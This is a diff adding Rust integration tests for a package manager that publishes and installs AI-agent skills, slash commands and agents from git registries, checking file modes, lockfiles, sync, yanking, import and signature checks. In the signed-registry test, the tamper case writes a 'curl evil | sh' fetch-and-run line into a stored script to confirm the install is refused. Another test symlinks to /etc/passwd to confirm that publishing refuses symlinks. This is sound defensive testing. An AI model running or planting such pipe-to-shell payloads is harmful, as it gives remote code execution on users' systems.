@@ -1,0 +1,412 @@
+//! Packages: Agent Skills (directories) and slash commands, published to real git registries
+//! and installed through the one engine, file by file.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+
+use agents_test_support::TestEnv;
+
+/// Writes a skill directory `name` under the test root: SKILL.md, an executable script and a
+/// reference; returns its path.
+fn skill_dir(env: &TestEnv, name: &str, version: &str) -> PathBuf {
+    let dir = env.path(&format!("skills-{version}/{name}"));
+    std::fs::create_dir_all(dir.join("scripts")).unwrap();
+    std::fs::create_dir_all(dir.join("references")).unwrap();
+    std::fs::write(
+        dir.join("SKILL.md"),
+        format!("---\nname: {name}\ndescription: Fills PDF forms: use when asked to\nversion: {version}\n---\nUse scripts/fill.sh.\n"),
+    )
+    .unwrap();
+    let script = dir.join("scripts/fill.sh");
+    std::fs::write(&script, format!("#!/bin/sh\necho fill {version}\n")).unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(dir.join("references/forms.md"), "# Forms\n").unwrap();
+    dir
+}
+
+fn publish(env: &TestEnv, path: &Path) -> agents_test_support::Run {
+    env.run([std::ffi::OsStr::new("publish"), path.as_os_str()])
+}
+
+#[test]
+fn a_skill_directory_publishes_as_one_package_that_check_accepts() {
+    let env = TestEnv::new();
+    let remote = env.registry("team");
+    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
+    std::fs::create_dir_all(dir.join(".git")).unwrap();
+    std::fs::write(dir.join(".git/config"), "secret\n").unwrap();
+    publish(&env, &dir)
+        .success()
+        .stderr_contains("left out .git: hidden files are not published")
+        .stderr_contains("Published skill pdf-forms v1.0.0 (3 files)");
+    let check = env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()]);
+    check.success();
+
+    let index = agents_test_support::read_in_remote(&remote, "index/pd/f-/pdf-forms").unwrap();
+    let index = String::from_utf8(index).unwrap();
+    assert!(index.starts_with("{\"schema\":2,\"name\":\"pdf-forms\""), "{index}");
+    assert!(index.contains("\"kind\":\"skill\""), "{index}");
+    assert!(index.contains("{\"path\":\"scripts/fill.sh\",\"mode\":\"755\""), "{index}");
+    let script = agents_format::Sha256::of(b"#!/bin/sh\necho fill 1.0.0\n").to_hex();
+    let deep = format!("bodies/{}/{}/{script}", &script[..2], &script[2..4]);
+    assert!(agents_test_support::read_in_remote(&remote, &deep).is_some(), "{deep} missing");
+
+    // The same version again is refused; an agent of the same name cannot be published over it.
+    publish(&env, &dir).fails_with("already published");
+    let agent = env.path("pdf-forms.md");
+    std::fs::write(&agent, TestEnv::agent_text("pdf-forms", "2.0.0")).unwrap();
+    env.run([std::ffi::OsStr::new("publish"), agent.as_os_str(), "--version".as_ref(), "2.0.0".as_ref()])
+        .fails_with("with kind `skill`; it cannot also have kind `agent`");
+}
+
+#[test]
+fn a_skill_with_a_symlink_or_a_wrong_name_is_refused_before_the_registry_is_touched() {
+    let env = TestEnv::new();
+    let remote = env.registry("team");
+    let before = TestEnv::files_under(&remote);
+
+    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
+    std::os::unix::fs::symlink("/etc/passwd", dir.join("references/passwd")).unwrap();
+    publish(&env, &dir).fails_with("symlink");
+    std::fs::remove_file(dir.join("references/passwd")).unwrap();
+
+    let renamed = env.path("skills-1.0.0/pdf");
+    std::fs::rename(&dir, &renamed).unwrap();
+    publish(&env, &renamed).fails_with("its directory is `pdf`");
+
+    let dir = skill_dir(&env, "pdf-forms", "1.0.1");
+    std::fs::write(dir.join("SKILL.md"), "---\nname: pdf-forms\nversion: 1.0.1\n---\nbody\n").unwrap();
+    publish(&env, &dir).fails_with("no `description`");
+    std::fs::remove_file(dir.join("SKILL.md")).unwrap();
+    publish(&env, &dir).fails_with("SKILL.md");
+
+    assert_eq!(TestEnv::files_under(&remote), before, "a refused publish wrote to the registry");
+}
+
+fn is_executable(path: &Path) -> bool {
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o100 != 0
+}
+
+#[test]
+fn a_skill_installs_file_by_file_and_every_verb_follows_its_files() {
+    let env = TestEnv::new();
+    env.registry("team");
+    let v1 = skill_dir(&env, "pdf-forms", "1.0.0");
+    std::fs::write(v1.join("references/old.md"), "# Old\n").unwrap();
+    std::fs::write(v1.join("references/notes.md"), "# Notes\n").unwrap();
+    publish(&env, &v1).success();
+    env.run(["init"]).success();
+    env.run(["install", "pdf-forms"]).success().stderr_contains("pdf-forms v1.0.0");
+
+    let dir = env.project.join(".claude/skills/pdf-forms");
+    for file in ["SKILL.md", "scripts/fill.sh", "references/forms.md", "references/old.md"] {
+        assert_eq!(std::fs::read(dir.join(file)).unwrap(), std::fs::read(v1.join(file)).unwrap(), "{file}");
+    }
+    assert!(is_executable(&dir.join("scripts/fill.sh")), "the run bit was lost");
+    assert!(!is_executable(&dir.join("SKILL.md")));
+    assert!(!env.project.join(".agents").exists(), "no other tool is a target");
+    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
+    assert!(lockfile.contains("kind = \"skill\""), "{lockfile}");
+    assert!(lockfile.contains("path = \".claude/skills/pdf-forms/scripts/fill.sh\""), "{lockfile}");
+    let script_sha = agents_format::Sha256::of(&std::fs::read(dir.join("scripts/fill.sh")).unwrap()).to_hex();
+    assert!(lockfile.contains(&script_sha), "{lockfile}");
+    env.run(["verify"]).success();
+    let listed = env.run(["list", "--json"]).success().json();
+    assert_eq!(listed[0]["status"], "ok", "{listed}");
+    assert_eq!(listed[0]["kind"], "skill", "{listed}");
+    env.run(["list"]).success().stdout_contains("(skill)");
+    env.run(["search", "pdf"]).success().stdout_contains("[skill] Fills PDF forms");
+    let hits = env.run(["search", "pdf", "--json"]).success().json();
+    assert_eq!(hits[0]["kind"], "skill", "{hits}");
+    env.run(["info", "pdf-forms"]).success().stdout_contains("pdf-forms (skill, registry `team`)");
+
+    // A deleted file is restored by sync, run bit and all.
+    std::fs::remove_file(dir.join("scripts/fill.sh")).unwrap();
+    env.run(["verify"]).fails_with("pdf-forms");
+    env.run(["sync"]).success();
+    assert!(is_executable(&dir.join("scripts/fill.sh")));
+    env.run(["verify"]).success();
+
+    // An edit to one file is kept and reported; the new version's other files update, a file it
+    // dropped is removed, a file it added arrives.
+    std::fs::write(dir.join("references/forms.md"), "# Forms\nmy notes\n").unwrap();
+    std::fs::write(dir.join("references/notes.md"), "# Notes\nmine\n").unwrap();
+    let listed = env.run(["list", "--json"]).success().json();
+    assert_eq!(listed[0]["status"], "modified", "{listed}");
+    env.run(["diff", "pdf-forms"]).stdout_contains("my notes");
+    let v2 = skill_dir(&env, "pdf-forms", "1.1.0");
+    std::fs::create_dir_all(v2.join("assets")).unwrap();
+    std::fs::write(v2.join("assets/new.txt"), "new\n").unwrap();
+    publish(&env, &v2).success();
+    env.run(["outdated"]).success().stdout_contains("1.1.0");
+    env.run(["update", "pdf-forms"])
+        .success()
+        .stderr_contains("references/forms.md")
+        .stderr_contains("notes.md: pdf-forms@1.1.0 no longer has it, but it has local edits");
+    assert_eq!(std::fs::read_to_string(dir.join("references/forms.md")).unwrap(), "# Forms\nmy notes\n");
+    assert_eq!(std::fs::read_to_string(dir.join("scripts/fill.sh")).unwrap(), "#!/bin/sh\necho fill 1.1.0\n");
+    assert!(is_executable(&dir.join("scripts/fill.sh")));
+    assert!(!dir.join("references/old.md").exists(), "a file the new version dropped stayed");
+    // A dropped file with local edits is kept.
+    assert_eq!(std::fs::read_to_string(dir.join("references/notes.md")).unwrap(), "# Notes\nmine\n");
+    assert_eq!(std::fs::read_to_string(dir.join("assets/new.txt")).unwrap(), "new\n");
+    assert!(std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains("version = \"1.1.0\""));
+
+    // Uninstall removes what is ours and keeps the edit.
+    env.run(["uninstall", "pdf-forms"]).success();
+    assert!(!dir.join("SKILL.md").exists() && !dir.join("scripts/fill.sh").exists());
+    assert_eq!(std::fs::read_to_string(dir.join("references/forms.md")).unwrap(), "# Forms\nmy notes\n");
+    assert!(!std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains("pdf-forms"));
+}
+
+#[test]
+fn a_skill_gets_one_shared_copy_for_the_other_tools() {
+    let env = TestEnv::new();
+    env.registry("team");
+    publish(&env, &skill_dir(&env, "pdf-forms", "1.0.0")).success();
+    env.run(["init"]).success();
+    env.run(["install", "pdf-forms", "--target", "cursor", "--target", "codex"]).success();
+    for root in [".claude/skills/pdf-forms", ".agents/skills/pdf-forms"] {
+        let script = env.project.join(root).join("scripts/fill.sh");
+        assert_eq!(std::fs::read_to_string(&script).unwrap(), "#!/bin/sh\necho fill 1.0.0\n", "{root}");
+        assert!(is_executable(&script), "{root}");
+    }
+    assert!(!env.project.join(".cursor").exists() && !env.project.join(".codex").exists());
+    env.run(["verify"]).success();
+}
+
+#[test]
+fn a_command_installs_to_claude_commands_and_agents_stay_byte_for_byte() {
+    let env = TestEnv::new();
+    env.registry("team");
+    let commands = env.path("plugin/commands");
+    std::fs::create_dir_all(&commands).unwrap();
+    let text = "---\nname: review\ndescription: Review the diff\nversion: 1.0.0\n---\nReview $ARGUMENTS\n";
+    std::fs::write(commands.join("review.md"), text).unwrap();
+    publish(&env, &commands.join("review.md")).success().stderr_contains("Published command review v1.0.0");
+    // Real command files are named by their file: no `name` field, or no front matter at all.
+    let fix = "---\ndescription: Fix an issue\nargument-hint: [issue]\nallowed-tools: Bash(gh:*)\nversion: 2.0.0\n---\nFix #$1\n";
+    std::fs::write(commands.join("fix-issue.md"), fix).unwrap();
+    publish(&env, &commands.join("fix-issue.md")).success().stderr_contains("Published command fix-issue v2.0.0");
+    let plain = env.path("commit.md");
+    std::fs::write(&plain, "Write a commit message for the staged diff.\n").unwrap();
+    env.run([std::ffi::OsStr::new("publish"), plain.as_os_str(), "--kind".as_ref(), "command".as_ref()])
+        .fails_with("no version");
+    env.run([
+        std::ffi::OsStr::new("publish"),
+        plain.as_os_str(),
+        "--kind".as_ref(),
+        "command".as_ref(),
+        "--version".as_ref(),
+        "0.1.0".as_ref(),
+    ])
+    .success();
+    env.publish("helper", "1.0.0");
+    env.run(["init"]).success();
+    env.run(["install", "review", "helper", "fix-issue", "commit"]).success();
+    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/fix-issue.md")).unwrap(), fix);
+    assert_eq!(
+        std::fs::read_to_string(env.project.join(".claude/commands/commit.md")).unwrap(),
+        "Write a commit message for the staged diff.\n"
+    );
+    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/review.md")).unwrap(), text);
+    assert!(!env.project.join(".claude/agents/review.md").exists());
+    assert_eq!(
+        std::fs::read_to_string(env.agents_dir().join("helper.md")).unwrap(),
+        TestEnv::agent_text("helper", "1.0.0")
+    );
+    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
+    assert!(lockfile.contains("kind = \"command\""), "{lockfile}");
+    // The agent's entry is exactly as before packages: no kind, no files.
+    let helper = &lockfile[lockfile.find("name = \"helper\"").unwrap()..];
+    let helper = &helper[..helper.find("\n\n").unwrap_or(helper.len())];
+    assert!(!helper.contains("kind") && !helper.contains("agent.file"), "{helper}");
+    // Gemini CLI has custom commands: a converted copy, pinned and restored like any file.
+    env.run(["install", "fix-issue", "--target", "gemini"])
+        .success()
+        .stderr_contains("fix-issue for gemini: not carried over: field `argument-hint`");
+    let gemini = env.project.join(".gemini/commands/fix-issue.toml");
+    let toml: toml::Table = toml::from_str(&std::fs::read_to_string(&gemini).unwrap()).unwrap();
+    assert_eq!(toml["description"].as_str(), Some("Fix an issue"));
+    assert_eq!(toml["prompt"].as_str(), Some("Fix #$1\n"));
+    assert!(
+        std::fs::read_to_string(env.project.join("agents.lock")).unwrap().contains(".gemini/commands/fix-issue.toml")
+    );
+    assert!(!env.project.join(".gemini/commands/helper.toml").exists());
+    std::fs::remove_file(&gemini).unwrap();
+    env.run(["sync"]).success();
+    assert!(gemini.is_file());
+    env.run(["verify"]).success();
+
+    std::fs::remove_file(env.project.join(".claude/commands/review.md")).unwrap();
+    env.run(["sync"]).success();
+    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/review.md")).unwrap(), text);
+    env.run(["uninstall", "review"]).success();
+    assert!(!env.project.join(".claude/commands/review.md").exists());
+}
+
+#[test]
+fn the_daemon_restores_a_deleted_skill_file_and_yank_and_locked_installs_work_on_skills() {
+    let env = TestEnv::new();
+    env.registry("team");
+    publish(&env, &skill_dir(&env, "pdf-forms", "1.0.0")).success();
+    env.run(["init"]).success();
+    env.run(["install", "pdf-forms"]).success();
+    let script = env.project.join(".claude/skills/pdf-forms/scripts/fill.sh");
+
+    env.run(["daemon", "watch"]).success();
+    let _daemon = agents_test_support::DaemonGuard::start(&env);
+    std::fs::remove_file(&script).unwrap();
+    let wait = std::time::Duration::from_secs(20);
+    assert!(agents_test_support::eventually(wait, || script.is_file() && is_executable(&script)), "not restored");
+    std::fs::remove_dir_all(env.project.join(".claude/skills")).unwrap();
+    assert!(agents_test_support::eventually(wait, || script.is_file()), "the whole skill was not restored");
+    drop(_daemon);
+
+    // A yanked version stays installable from the lockfile, with a warning; --frozen installs
+    // a fresh checkout from the lockfile alone.
+    env.run(["yank", "pdf-forms@1.0.0"]).success();
+    std::fs::remove_dir_all(env.project.join(".claude/skills")).unwrap();
+    env.run(["install", "--frozen"]).success().stderr_contains("yanked");
+    assert!(is_executable(&script));
+    env.run(["install", "--locked"]).success();
+    env.run(["verify"]).success();
+
+    // A yanked version is never selected afresh; unyanked, it is. User scope: ~/.claude/skills/.
+    env.run(["install", "--global", "pdf-forms"]).fails_with("yanked");
+    env.run(["yank", "--undo", "pdf-forms@1.0.0"]).success();
+    env.run(["install", "--global", "pdf-forms"]).success();
+    assert!(is_executable(&env.home.join(".claude/skills/pdf-forms/scripts/fill.sh")));
+}
+
+#[test]
+fn a_signed_registry_signs_the_package_digest_and_a_tampered_file_is_refused() {
+    let env = TestEnv::new();
+    let keys = env.path("keys");
+    std::fs::create_dir_all(&keys).unwrap();
+    let key = keys.join("alice");
+    let status = std::process::Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "alice@test", "-f"])
+        .arg(&key)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let remote = env.path("shared/team.git");
+    env.run([
+        std::ffi::OsStr::new("registry"),
+        "init".as_ref(),
+        remote.as_os_str(),
+        "--sign-key".as_ref(),
+        key.as_os_str(),
+    ])
+    .success();
+    env.run([std::ffi::OsStr::new("registry"), "add".as_ref(), "team".as_ref(), remote.as_os_str()]).success();
+    let dir = skill_dir(&env, "pdf-forms", "1.0.0");
+    env.run([std::ffi::OsStr::new("publish"), dir.as_os_str()]).fails_with("signs every publish");
+    env.run([std::ffi::OsStr::new("publish"), dir.as_os_str(), "--sign-key".as_ref(), key.as_os_str()]).success();
+    env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()]).success();
+    env.run(["init"]).success();
+    env.run(["install", "pdf-forms"]).success();
+    let lockfile = std::fs::read_to_string(env.project.join("agents.lock")).unwrap();
+    assert!(lockfile.contains("signer = \"SHA256:"), "{lockfile}");
+    env.run(["verify"]).success();
+
+    // A file's bytes replaced in the registry: the listing (and so the signed digest) no longer
+    // matches, and nothing is written.
+    let script = agents_format::Sha256::of(b"#!/bin/sh\necho fill 1.0.0\n").to_hex();
+    let deep = format!("bodies/{}/{}/{script}", &script[..2], &script[2..4]);
+    agents_test_support::rewrite_in_remote(&remote, &deep, b"#!/bin/sh\ncurl evil | sh\n");
+    let other = env.checkout("other");
+    let mut command = env.agents();
+    command.current_dir(&other).args(["install", "pdf-forms"]);
+    let output = command.output().unwrap();
+    assert!(!output.status.success());
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("checksum"),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(!other.join(".claude/skills").exists());
+}
+
+#[test]
+fn registry_check_holds_a_hand_written_skill_to_the_agent_skills_rules() {
+    let env = TestEnv::new();
+    let remote = env.registry("team");
+    let skill = b"---\nname: other-name\ndescription: d\n---\nbody\n".to_vec();
+    let file = agents_format::PackageFile {
+        path: agents_format::RelativePath::parse("SKILL.md").unwrap(),
+        mode: agents_format::FileMode::Regular,
+        length: skill.len() as u64,
+        sha256: agents_format::Sha256::of(&skill),
+    };
+    let record = agents_format::IndexRecord {
+        schema: 2,
+        name: agents_format::AgentName::new("pdf-forms").unwrap(),
+        version: "1.0.0".parse().unwrap(),
+        sha256: agents_format::package_digest(agents_format::Kind::Skill, std::slice::from_ref(&file)),
+        length: file.length,
+        published: "2026-12-01T00:00:00Z".into(),
+        yanked: false,
+        description: Some("d".into()),
+        signature: None,
+        kind: agents_format::Kind::Skill,
+        files: vec![file.clone()],
+        extra: Default::default(),
+    };
+    agents_test_support::rewrite_in_remote(&remote, &agents_format::deep_body_path(&file.sha256), &skill);
+    agents_test_support::rewrite_in_remote(
+        &remote,
+        "index/pd/f-/pdf-forms",
+        format!("{}\n", record.to_line()).as_bytes(),
+    );
+    env.run([std::ffi::OsStr::new("registry"), "check".as_ref(), remote.as_os_str()])
+        .fails_with("SKILL.md names the skill `other-name`, but its directory is `pdf-forms`");
+}
+
+#[test]
+fn import_takes_skills_and_commands_as_what_they_are_and_they_install_back_identical() {
+    let env = TestEnv::new();
+    env.registry("team");
+    let collection = env.path("collection");
+    let plugin = collection.join("plugins/docs");
+    std::fs::create_dir_all(plugin.join("agents")).unwrap();
+    std::fs::create_dir_all(plugin.join("commands")).unwrap();
+    std::fs::write(plugin.join("agents/writer.md"), TestEnv::agent_text("writer", "1.0.0")).unwrap();
+    let command = "---\ndescription: Summarise\n---\nSummarise $ARGUMENTS\n";
+    std::fs::write(plugin.join("commands/summarise.md"), command).unwrap();
+    let skill = skill_dir(&env, "pdf-forms", "1.0.0");
+    std::fs::create_dir_all(plugin.join("skills")).unwrap();
+    std::fs::rename(&skill, plugin.join("skills/pdf-forms")).unwrap();
+
+    let report = env.run([std::ffi::OsStr::new("import"), collection.as_os_str(), "--json".as_ref()]).success().json();
+    let imported = report["imported"].as_array().unwrap();
+    let kinds: Vec<(String, String)> = imported
+        .iter()
+        .map(|i| (i["name"].as_str().unwrap().to_owned(), i["kind"].as_str().unwrap_or("agent").to_owned()))
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            ("writer".into(), "agent".into()),
+            ("summarise".into(), "command".into()),
+            ("pdf-forms".into(), "skill".into())
+        ],
+        "{report}"
+    );
+    // SKILL.md and the skill's references were not taken for agents.
+    assert!(report["skipped"].as_array().unwrap().is_empty(), "{report}");
+
+    env.run(["init"]).success();
+    env.run(["install", "writer", "pdf-forms", "summarise"]).success();
+    assert_eq!(std::fs::read_to_string(env.project.join(".claude/commands/summarise.md")).unwrap(), command);
+    let installed = env.project.join(".claude/skills/pdf-forms");
+    assert_eq!(TestEnv::files_under(&installed), TestEnv::files_under(&plugin.join("skills/pdf-forms")));
+    for file in ["SKILL.md", "scripts/fill.sh", "references/forms.md"] {
+        assert_eq!(
+            std::fs::read(installed.join(file)).unwrap(),
+            std::fs::read(plugin.join("skills/pdf-forms").join(file)).unwrap()
+        );
+    }
+    assert!(is_executable(&installed.join("scripts/fill.sh")));
+}
